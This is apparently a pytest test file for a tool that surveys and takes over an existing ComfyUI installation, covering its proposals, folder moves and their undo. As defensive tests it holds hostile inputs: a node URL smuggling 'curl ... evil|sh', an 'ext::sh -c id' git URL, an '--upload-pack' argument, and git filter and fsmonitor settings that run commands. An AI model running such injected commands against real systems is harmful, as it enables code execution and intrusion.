"""Adopting: the survey of an installation, the proposal, and moving folders there and back."""

from __future__ import annotations

import errno
import os
import stat
import subprocess
import sys
import tempfile
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from agent.change import adopt as adopting
from agent.deletion import remove
from agent.files import AgentError, read_text
from agent.folders import opened
from agent.journal import AdoptionJournal
from agent.layout import Layout
from agent.look import survey
from agent.schema.change import Adopt, Unadopt
from agent.schema.survey import Installation, Survey
from core.typed import convert
from deploy import adopt, plan, proposal
from deploy.facts import Gpu
from deploy.proposal import Proposal, propose
from deploy.survey import only, port, without_secrets
from lock import nodes
from tests.errors import raises
from tests.plans import FLAGS, FRESH, kinds, reasons, spark
from tests.unit.test_agent_files import deep

ROOT = {"point": "/", "what": "/dev/sda1", "type": "ext4"}
MISSING = {
    "place": "", "real": "", "kind": "missing", "mount": {}, "rename": False, "bytes": 0, "files": 0, "owner": "",
    "people": [], "links": {}, "mounts": [],
}  # fmt: skip


def folder(name: str, **values: Any) -> dict[str, Any]:
    place = f"/opt/comfyui/ComfyUI/{name}"
    own = {"place": place, "real": place, "kind": "folder", "mount": ROOT, "rename": True, "bytes": 5, "files": 1}
    return {**MISSING, **own, **values}


def unit(**values: Any) -> dict[str, Any]:
    own = {"name": "comfyui.service", "path": "/etc/systemd/system/comfyui.service", "aside": False, "user": "anna"}
    return {**own, "variables": [], "active": True, "enabled": True, **values}


def installation(**values: Any) -> Installation:
    own: dict[str, Any] = {
        "path": "/opt/comfyui/ComfyUI", "version": "0.3.40", "url": "", "commit": "", "edited": None, "python": "",
        "torch": "", "environment": "", "folders": {}, "paths": "", "nodes": [], "argv": [], "units": [],
        "processes": [], "holds_port": False,
    }  # fmt: skip
    return convert({**own, **values}, Installation)


def found_node(name: str, **values: Any) -> dict[str, Any]:
    own = {"name": name, "disabled": False, "file": False, "url": f"https://example.org/{name}", "commit": "c" * 40}
    return {**own, "edited": [], **values}


KNOWN = nodes.Catalogue(
    nodes={"pinned": nodes.Node(url="https://Example.org/pinned.git", commit="a" * 40, tree="t", why="a test")},
    left_out={"outcast": "it fits no other"},
)


def proposed(by: str = "rename", **values: Any) -> Proposal:
    facts = replace(FRESH, user=True, data=True)
    return propose(spark(), facts, installation(**values), KNOWN, FLAGS, by)


def host(proposal: Proposal) -> dict[str, Any]:
    (found,) = tomllib.loads(proposal.snippet)["hosts"].values()
    assert isinstance(found, dict)
    return found


def test_proposal_lists_folders_on_other_mounts() -> None:
    nas = {"point": "/mnt/nas", "what": "nas:/models", "type": "nfs4"}
    folders = {
        "models": folder("models", kind="link", real="/mnt/nas/comfy/models", mount=nas, rename=False),
        "input": folder("input", rename=False, mounts=[{**nas, "point": "/opt/comfyui/ComfyUI/input/photos"}]),
        "output": folder("output", mounts=[{**nas, "point": "/mnt/far"}]),
        "user": folder("user", files=0),
    }
    found = proposed(folders=folders)
    assert host(found)["folders"] == {"models": "/mnt/nas/comfy/models", "input": "/opt/comfyui/ComfyUI/input"}
    assert host(found)["mounts"].keys() == {"/mnt/nas", "/mnt/far", "/opt/comfyui/ComfyUI/input/photos"}
    assert "# nfs4 nas:/models" in found.snippet
    assert found.moves == {"output": ("/opt/comfyui/ComfyUI/output", 5, 1)}
    stays = proposed("reference", folders=folders)
    assert not stays.moves
    assert host(stays)["folders"]["output"] == "/opt/comfyui/ComfyUI/output"


def test_folders_configured_elsewhere_are_not_moved() -> None:
    facts = replace(FRESH, user=True, data=True)
    target = spark(folders={"models": "/srv/models"})
    folders = {"models": folder("models"), "output": folder("output")}
    found = propose(target, facts, installation(folders=folders), KNOWN, FLAGS, "rename")
    assert found.moves.keys() == {"output"}
    assert host(found)["folders"] == {"models": "/srv/models"}
    place = "models in /opt/comfyui/ComfyUI/models"
    assert (place, "hosts.toml places it in /srv/models") in found.left


def test_home_folders_are_moved_but_never_referenced() -> None:
    folders = {"models": folder("models", real="/home/anna/ComfyUI/models")}
    assert proposed(folders=folders).moves.keys() == {"models"}
    stays = proposed("reference", folders=folders)
    assert "folders" not in host(stays)
    assert "cannot see home folders" in dict(stays.left)["models in /home/anna/ComfyUI/models"]


@pytest.mark.parametrize(
    ("link", "target", "why"),
    [
        ("a", "../output/a", "leads out of the moved folders"),
        ("sub/a", "../a", ""),
        ("sub/a", "../../a", "leads out of the moved folders"),
        ("a", "/opt/comfyui/ComfyUI/models/b", "leads into the moved folders"),
        ("a", "/home/anna/a", "cannot see home folders"),
        ("a", "/srv/a", ""),
    ],
)
def test_links_that_would_break_are_reported(link: str, target: str, why: str) -> None:
    left = dict(proposed(folders={"models": folder("models", links={link: target})}).left)
    assert why in left.get(f"link /opt/comfyui/ComfyUI/models/{link} -> {target}", "")
    assert bool(left) == bool(why)


def test_only_flags_known_to_comfyui_are_adopted() -> None:
    words = "--listen --port 8190 --reserve-vram 2.5 --normalvram --use-flash-attention --enable-manager --cpu=1"
    found = proposed(argv=words.split(), units=[unit()])
    assert (host(found)["listen"], host(found)["port"], port(found.installation)) == ("0.0.0.0", 8190, 8190)
    assert {name: each["value"] for name, each in host(found)["override"]["flags"].items()} == {"--reserve-vram": "2.5"}
    left = dict(found.left)
    assert "has no flag" in left["flag --normalvram"]
    assert "exclude each other" in left["flag --use-flash-attention"]
    assert "off by default" in left["flag --enable-manager"]
    assert "takes 0" in left["flag --cpu 1"]


def test_profile_is_chosen_by_gpu() -> None:
    assert host(proposed())["profile"] == "dgx-spark"
    for gpus, profile in (((), "cpu"), ((Gpu("H100", "9.0", 1, False),), "cuda")):
        facts = replace(FRESH, gpus=gpus)
        assert host(propose(spark(), facts, installation(), KNOWN, FLAGS, "rename"))["profile"] == profile


def test_model_roots_need_comfyuis_layout() -> None:
    text = (
        "# an example\nnas:\n    base_path: /mnt/more/\n    is_default: true\n    checkpoints: checkpoints  # all\n"
        "    loras: |\n        loras\n        other/lora\n    custom_nodes: custom_nodes\n"
        'webui:\n    base_path: "/srv/webui"\n    checkpoints: models/Stable-diffusion\n'
    )
    found = proposed(paths=text)
    assert host(found)["model_roots"] == ["/mnt/more"]
    assert [what for what, _ in found.left] == [
        "loras in /mnt/more/other/lora (extra_model_paths.yaml)",
        "custom_nodes in /mnt/more/custom_nodes (extra_model_paths.yaml)",
        "checkpoints in /srv/webui/models/Stable-diffusion (extra_model_paths.yaml)",
    ]


def test_nodes_are_known_or_addable_or_have_a_reason() -> None:
    listed = [
        found_node("pinned", url="git@example.org:pinned"),
        found_node("other"),
        found_node("registry", commit="", edited=None),
        found_node("unread", edited=None),
        found_node("edited", edited=["a.py", "b.py"]),
        found_node("outcast"),
        found_node("off", disabled=True),
        found_node("single.py", file=True, url=""),
        found_node("bare", url="", commit="", edited=None),
    ]
    found = proposed(nodes=listed)
    assert found.nodes == {"pinned": "pinned at aaaaaaaaa, installed ccccccccc"}
    assert host(found)["override"]["nodes"] == ["pinned"]
    assert [command.split(" --why")[0] for command in found.add] == [
        f"inv nodes.add https://example.org/other@{'c' * 40}",
        "inv nodes.add https://example.org/registry",
        f"inv nodes.add https://example.org/unread@{'c' * 40}",
    ]
    reasons = [what for what, _ in found.left]
    assert reasons == [
        *(f"node {name}" for name in ("edited", "outcast", "off", "single.py", "bare")),
        "edits of unread",
    ]
    assert "a.py, b.py" in dict(found.left)["node edited"]
    assert "the host has no git" in dict(found.left)["edits of unread"]


def test_several_installations_need_a_choice() -> None:
    two = Survey(("/a", "/b"), (installation(path="/a"), installation(path="/b")))
    with raises("no-installation", match="2 installations of ComfyUI: /a, /b"):
        only(two, "spark")
    with raises("no-installation", match="no ComfyUI was found") as none:
        only(Survey(("/opt/x",), ()), "spark")
    assert "/opt/x" in none.value.cause


def test_plan_stops_old_units_and_moves_each_folder() -> None:
    found = proposed(folders={"models": folder("models"), "user": folder("user")}, units=[unit()])
    options = plan.Options()
    assert kinds(adopt.take_over(spark(), FRESH, found, options)) == ["retire", "account", "folders", "adopt", "adopt"]
    aside = proposed(units=[unit(aside=True)])
    assert kinds(adopt.take_over(spark(), FRESH, aside, options)) == []


@pytest.mark.parametrize(
    ("values", "scope", "kind"),
    [
        ({"processes": [{"pid": 7, "user": "anna", "unit": ""}]}, "system", "loose-process"),
        ({}, "user", "no-root"),
    ],
)
def test_unadoptable_installation_is_refused(values: dict[str, Any], scope: str, kind: str) -> None:
    planned = adopt.take_over(spark(scope=scope), FRESH, proposed(units=[unit()], **values), plan.Options())
    assert not planned.steps
    assert reasons(planned) == [kind]


def test_undo_first_takes_release_out_of_service() -> None:
    adopted = replace(FRESH, adopted=True, current="r1")
    assert kinds(adopt.put_back(spark(), adopted, plan.Options())) == ["withdraw", "unadopt"]
    assert kinds(adopt.put_back(spark(), FRESH, plan.Options())) == []


# --- the agent -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/opt/c/.venv/bin/python main.py --listen 0.0.0.0", ("/wd", ["--listen", "0.0.0.0"])),
        ("/usr/bin/python3 -u /opt/c/main.py", ("/opt/c", [])),
        ("/bin/bash -c 'cd /opt/c && exec python main.py --port 1 > /tmp/log 2>&1'", ("/opt/c", ["--port", "1"])),
        ("/usr/bin/comfy --workspace=/opt/w launch -- --port 2", ("/opt/w", ["--port", "2"])),
        ("/usr/bin/comfy launch --background", ("~/comfy/ComfyUI", [])),
        ("SCRIPT", ("/opt/s", ["--cpu", "--port", "3"])),
        ("/usr/sbin/nginx -g main", ("", [])),
    ],
)
def test_start_command_is_read(tmp_path: Path, command: str, expected: tuple[str, list[str]]) -> None:
    script = tmp_path / "run.sh"
    script.write_text('#!/bin/sh\n# starts it\ncd /opt/s\nexec python main.py --cpu \\\n  --port 3 "$@"\n')
    assert survey._started(command.replace("SCRIPT", str(script)), "/wd") == expected


def git(place: Path, *words: str) -> str:
    argv = ["git", "-C", str(place), "-c", "user.name=a", "-c", "user.email=a@b", *words]
    return subprocess.run(argv, capture_output=True, text=True, check=True).stdout.strip()


def test_reading_a_repository_runs_no_program(tmp_path: Path) -> None:
    place, ran = tmp_path / "node", tmp_path / "ran"
    place.mkdir()
    (place / "one.py").write_text("1\n")
    (place / "two.py").write_text("2\n")
    (place / ".gitattributes").write_text("*.py filter=evil\n")
    for words in (["init", "--quiet"], ["add", "-A"], ["commit", "--quiet", "-m", "one"], ["gc", "--quiet"]):
        git(place, *words)
    git(place, "remote", "add", "origin", "https://anna:word@example.org/node")
    for key in ("core.fsmonitor", "filter.evil.clean", "filter.evil.process", "core.sshCommand"):
        git(place, "config", key, f"touch {ran}; cat")
    commit = (place / ".git/HEAD").read_text()
    (place / "two.py").write_text("edited\n")
    (place / "new.py").write_text("made when it ran\n")
    found = survey._repository(place)
    assert not ran.exists()
    assert found == {
        "url": "https://example.org/node",
        "commit": git(place, "rev-parse", "HEAD"),
        "edited": ("two.py",),
    }
    assert commit == (place / ".git/HEAD").read_text()


def layout(tmp_path: Path) -> Layout:
    values = {"prefix": str(tmp_path / "prefix"), "service": "c", "scope": "user", "user": "", "address": "", "port": 1}
    one = Layout(values)
    for path in (one.data, one.state):
        path.mkdir(parents=True)
    return one


def tree(root: Path) -> dict[str, tuple[int, str]]:
    return {
        str(path.relative_to(root)): (stat.S_IMODE(path.lstat().st_mode), path.read_text() if path.is_file() else "")
        for path in root.rglob("*")
    }


def test_folders_are_merged_and_separated_again(tmp_path: Path) -> None:
    place, old = layout(tmp_path), tmp_path / "old/models"
    files = {"loras/a": "old a", "loras/b": "old b", "checkpoints/c": "c", "same": "old"}
    for root, contents in ((old, files), (place.data / "models", {"loras/b": "new b", "same": "new", "vae/v": "v"})):
        for name, text in contents.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(text)
    (place.data / "models/checkpoints").mkdir()
    (old / "checkpoints/c").chmod(0o400)
    (old / "dangling").symlink_to("/nowhere")
    before, data = tree(old), tree(place.data)
    said: list[str] = []
    step = Adopt("t", "w", "u", "models", str(old), (os.geteuid(),))
    adopting.adopt(place, step, said.append)
    adopting.adopt(place, step, said.append)  # as after a kill
    assert (place.data / "models/loras/b").read_text() == "new b"
    assert (place.data / "models/loras/a").read_text() == "old a"
    assert (place.data / "models/checkpoints/c").stat().st_mode & 0o777 == 0o660
    assert (place.data / "models/dangling").is_symlink()
    assert {path.relative_to(old) for path in old.rglob("*") if path.is_file()} == {Path("loras/b"), Path("same")}
    assert [each.rpartition("/")[2] for each in said] == ["b", "same"] * 2
    adopting.unadopt(place, Unadopt("t", "w", "u"), said.append)
    assert tree(old) == before
    assert tree(place.data) == {name: each for name, each in data.items() if name != "models/checkpoints"}
    assert not AdoptionJournal(place).path.exists()


def test_setuid_bits_are_dropped_on_adopt_and_undo(tmp_path: Path) -> None:
    place, old = layout(tmp_path), tmp_path / "old/output"
    old.mkdir(parents=True)
    for name in ("a.png", "b.png"):
        (old / name).write_text(name)
        (old / name).chmod(0o6755)
    old.chmod(0o2755)
    adopting.adopt(place, Adopt("t", "w", "u", "output", str(old), (os.geteuid(),)), print)
    data = place.data / "output"
    assert [(data / name).stat().st_mode & 0o7777 for name in ("a.png", "b.png", ".")] == [0o775, 0o775, 0o2775]
    (data / "new").write_text("put there by the service")
    (data / "new").chmod(0o4700)
    (data / "new").rename(data / "b.png")
    adopting.unadopt(place, Unadopt("t", "w", "u"), print)
    assert [(old / name).stat().st_mode & 0o7777 for name in ("a.png", "b.png", ".")] == [0o755, 0o4700, 0o2755]


def test_files_of_other_users_keep_their_owner(tmp_path: Path) -> None:
    (tmp_path / "theirs").write_text("")
    (tmp_path / "theirs").chmod(0o600)
    with opened(tmp_path) as here:
        nobody: set[int] = set()
        left = adopting._take_entries(here, tmp_path, ["theirs"], (0, 0), nobody, AdoptionJournal(layout(tmp_path)))
    assert left == 1
    assert (tmp_path / "theirs").stat().st_mode & 0o777 == 0o600


def test_folder_named_by_a_foreign_process_is_not_adopted(tmp_path: Path) -> None:
    me = os.geteuid()
    assert survey._foreign(tmp_path, {me}) == ""
    assert survey._foreign(tmp_path, {me + 1}).startswith(f"it belongs to user {me}, ")
    for each in ("/", "/etc", "/etc/ssl", "/usr/share", "/opt", "/var/lib", "/home", str(Path.home())):
        assert survey._foreign(Path(each), {0, me}) == "it is a system folder or a user's home"
    folders = {"output": folder("output", real="/opt/hbob/private", rename=False, foreign="it belongs to user 7")}
    found = proposed(folders=folders)
    assert found.moves == {}
    assert "hbob" not in found.snippet
    assert found.left == (("output in /opt/hbob/private", "it belongs to user 7"),)


def test_public_address_is_marked_in_proposal() -> None:
    found = proposed(argv=["--listen", "0.0.0.0"], processes=[{"pid": 1, "user": "anna", "unit": ""}])
    (line,) = (line for line in found.snippet.splitlines() if line.startswith("listen"))
    assert line == 'listen = "0.0.0.0"    # WHOEVER REACHES THIS ADDRESS CAN USE IT, without a password'


def test_proposed_commands_are_quoted() -> None:
    urls = ["https://github.com/x/y;curl${IFS}evil|sh;#", "ext::sh -c id", "--upload-pack=x", "https://u:p@host/x"]
    found = proposed(nodes=[found_node(f"n{number}", url=url) for number, url in enumerate(urls)])
    assert found.add == ()
    assert [what for what, _ in found.left] == ["node n0", "node n1", "node n2", "node n3"]


def test_rename_overwrites_nothing_and_follows_no_links(tmp_path: Path) -> None:
    for name in ("a/x", "b/x"):
        (tmp_path / name).parent.mkdir()
        (tmp_path / name).write_text(name)
    (tmp_path / "link").symlink_to(tmp_path / "a")
    with pytest.raises(FileExistsError):
        adopting.rename(tmp_path / "a/x", tmp_path / "b/x")
    with pytest.raises(OSError, match="link") as refused:
        adopting.rename(tmp_path / "link/x", tmp_path / "b/y")
    assert refused.value.errno in (errno.ELOOP, errno.ENOTDIR)
    adopting.rename(tmp_path / "a/x", tmp_path / "b/y")
    assert ((tmp_path / "b/x").read_text(), (tmp_path / "b/y").read_text()) == ("b/x", "a/x")


def test_pipe_in_place_of_a_file_does_not_block(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "HEAD")
    assert read_text(tmp_path / "HEAD") == ""


@pytest.mark.parametrize("size", [10**13, 3])
def test_large_database_does_not_prevent_undo(tmp_path: Path, size: int) -> None:
    place, old = layout(tmp_path), tmp_path / "old/user"
    old.mkdir(parents=True)
    (old / "comfyui.db").write_text("old")
    (old / "comfyui.db").chmod(0o4755)
    adopting.adopt(place, Adopt("t", "w", "u", "user", str(old), (os.geteuid(),)), print)
    kept = place.state / "adopted/database/comfyui.db"
    assert (kept.read_text(), kept.stat().st_mode & 0o7777) == ("old", 0o755)
    data = place.data / "user"
    for name in ("comfyui.db", "comfyui.db-x"):
        (data / name).write_text("new")
        os.truncate(data / name, size)
    os.mkfifo(data / "comfyui.db-wal")
    adopting.unadopt(place, Unadopt("t", "w", "u"), print)
    assert (old / "comfyui.db").read_text() == "old"
    assert (old / "comfyui.db-x").stat().st_size == size
    (newer,) = old.glob("comfyui.db.newer-*")
    assert newer.stat().st_size == size


def test_oversized_database_is_not_adopted(tmp_path: Path) -> None:
    place, old = layout(tmp_path), tmp_path / "old/user"
    old.mkdir(parents=True)
    (old / "comfyui.db").touch()
    os.truncate(old / "comfyui.db", 10**13)
    with pytest.raises(AgentError, match="more than ComfyUI's database can have"):
        adopting.adopt(place, Adopt("t", "w", "u", "user", str(old), (os.geteuid(),)), print)


@pytest.mark.parametrize("levels", [1400])
def test_deeply_nested_trees_are_not_moved(tmp_path: Path, levels: int) -> None:
    place, old = layout(tmp_path), tmp_path / "old/output"
    old.parent.mkdir()
    for root in (old, place.data / "output"):
        deep(root, levels)
    said: list[str] = []
    adopting.adopt(place, Adopt("t", "w", "u", "output", str(old), (os.geteuid(),)), said.append)
    assert said[0].startswith(f"not moved, because data/ has one of that name: {old}/dd/dd")
    for root in (old, place.data):
        remove(root)


@pytest.mark.parametrize("levels", [150, 1400])
def test_deeply_nested_tree_is_not_a_comfyui_folder(tmp_path: Path, levels: int) -> None:
    deep(tmp_path / "output", levels)
    owners = {os.geteuid()}
    found = survey._folder(tmp_path / "output", tmp_path / "data", owners)
    assert found.foreign.startswith(f"its folders are nested 100 deep: {tmp_path}/output/dd/dd")
    (tmp_path / "input/a").mkdir(parents=True)
    (tmp_path / "input/a/b").write_text("12345")
    (tmp_path / "input/a/c").symlink_to("b")
    found = survey._folder(tmp_path / "input", tmp_path / "data", owners)
    assert (found.files, found.bytes, found.links, found.foreign) == (2, 6, {"a/c": "b"}, "")
    remove(tmp_path / "output")


def test_link_loops_are_not_an_installation(tmp_path: Path) -> None:
    (tmp_path / "main.py").touch()
    before = "main.py"
    for number in range(1200):
        (tmp_path / str(number)).symlink_to(before)
        before = str(number)
    (tmp_path / "xmain.py").symlink_to(before)
    code = "import time; print(flush=True); time.sleep(60)"
    words = [sys.executable, "-ISc", code, "xmain.py"]
    with subprocess.Popen(words, cwd=tmp_path, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.readline()
        survey.all_processes()
        assert survey.survey(layout(tmp_path), str(tmp_path / "xmain.py")).found == ()
        process.kill()


@pytest.mark.needs("root")
def test_a_repository_is_read_as_its_owner(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", "/tmp")
    with tempfile.TemporaryDirectory(dir="/tmp") as place:
        tree, told, program = Path(place, "tree"), Path(place, "told"), Path(place, "bin/git")
        for each in (tree, tree / ".git", told, program.parent):
            each.mkdir()
            os.chown(each, 65534, 65534)
        Path(place).chmod(0o755)
        secret = Path(place, "secret")
        secret.write_text('[remote "origin"]\n url = secret')
        secret.chmod(0o600)
        (tree / ".git/config").symlink_to(secret)
        (tree / ".git/HEAD").write_text("a" * 40)
        program.write_text(f"#!/bin/sh\nid -u > {told}/uid\nid -G > {told}/groups\n")
        program.chmod(0o755)
        monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
        assert survey._repository(tree) == {"url": "", "commit": "a" * 40, "edited": ()}
        assert [(told / name).read_text().strip() for name in ("uid", "groups")] == ["65534", "65534"]
        monkeypatch.setattr(survey, "GIT_SECONDS", 1)
        program.write_text("#!/bin/sh\nsleep 60\n")
        assert survey._repository(tree)["edited"] is None
        with (tree / ".git/index").open("wb") as file:
            file.truncate(10**12)
        assert survey._repository(tree)["edited"] is None


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("postgresql://u:hunter2@db/x", "postgresql://***@db/x"),
        ("https://anna:p@ss@host/x.git", "https://***@host/x.git"),
        ("https://anna:hunt/er2@host/x", "https://***@host/x"),
        ("HTTPS://hunter2hunter2@host/x", "HTTPS://***@host/x"),
        ("at https://host/x?access_token=hunter2&y=1", "at https://host/x?access_token=***&y=1"),
        ("anna:hunter2@host:x.git", "***@host:x.git"),
        ("ghp_hunter2hunter2hunter2", "***"),
        ("HF_TOKEN=hunter2", "HF_TOKEN=***"),
        ("--api-key=hunter2", "--api-key=***"),
        ("git@github.com:a/b", "git@github.com:a/b"),
        ("ssh://git@github.com/a/b", "ssh://git@github.com/a/b"),
        ("https://host:8080/x", "https://host:8080/x"),
        ("/mnt/a:b", "/mnt/a:b"),
    ],
)
def test_secrets_of_an_installation_are_hidden(text: str, shown: str) -> None:
    found = {"argv": ["main.py", text, "--api-key", "hunter2", "--port", "1"], "nodes": [{"url": text, "n": 1}]}
    clean = without_secrets(found)
    assert clean["argv"] == ["main.py", shown, "--api-key", "***", "--port", "1"]
    assert "hunter" not in str(clean)
    left: list[tuple[str, str]] = []
    if shown != text:
        assert proposal._flags("cpu", {"--x": shown}, {}, left) == {}
        assert left == [("flag --x", "it is a secret, and a command line is visible to other users: inv secret set")]


def test_address_is_shown_without_credentials() -> None:
    assert without_secrets({"url": "https://anna:pw@host/x.git"}) == {"url": "https://host/x.git"}
